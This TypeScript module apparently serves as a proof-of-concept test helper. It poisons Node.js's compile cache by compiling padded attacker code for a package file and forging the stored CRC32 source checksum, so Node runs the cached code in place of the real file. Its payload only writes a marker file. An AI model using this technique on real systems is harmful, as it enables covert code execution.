import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';
import { run } from './programs.ts';

/** Where the checksum of the source stands in a file of Node's compile cache, in bytes. */
const SOURCE_CHECKSUM_AT = 12;

/** A file of a package, a folder with a compile cache that holds other code for it, and what tells that this code ran. */
export interface Poison {
  readonly cacheFolder: string;
  readonly marker: string;
}

/**
 * Makes a compile cache in which a file of the package stands with code of an attacker: Node compares its length and a
 * checksum that anybody can compute. The code leaves a marker and ends the process.
 *
 * @param flags of Node, those that the victim will be started with: V8 takes no cache of other ones
 */
export async function poisonCache(
  file: string,
  options: { readonly cacheFolder: string; readonly marker: string; readonly flags: readonly string[] },
): Promise<Poison> {
  const { cacheFolder, marker, flags } = options;
  const source = readFileSync(file);
  const attack = `require('node:fs').writeFileSync(${JSON.stringify(marker)},'');process.exit(0);//`;
  const padded = Buffer.concat([Buffer.from(attack), Buffer.alloc(source.length - attack.length, 'x')]);
  writeFileSync(file, padded);
  const loader = `require('node:module').enableCompileCache(${JSON.stringify(cacheFolder)});require(${JSON.stringify(file)})`;
  await run(process.execPath, [...flags, '-e', loader]);
  writeFileSync(file, source);
  rmSync(marker);
  const [inner = ''] = readdirSync(cacheFolder);
  for (const name of readdirSync(join(cacheFolder, inner))) {
    const path = join(cacheFolder, inner, name);
    const entry = readFileSync(path);
    if (entry.readUInt32LE(SOURCE_CHECKSUM_AT) !== crc32(padded)) continue;
    entry.writeUInt32LE(crc32(source), SOURCE_CHECKSUM_AT);
    writeFileSync(path, entry);
  }
  return { cacheFolder, marker };
}

/** Whether the code of the attacker has run since this was asked last. */
export function hasStruck({ marker }: Poison): boolean {
  const hasRun = existsSync(marker);
  rmSync(marker, { force: true });
  return hasRun;
}
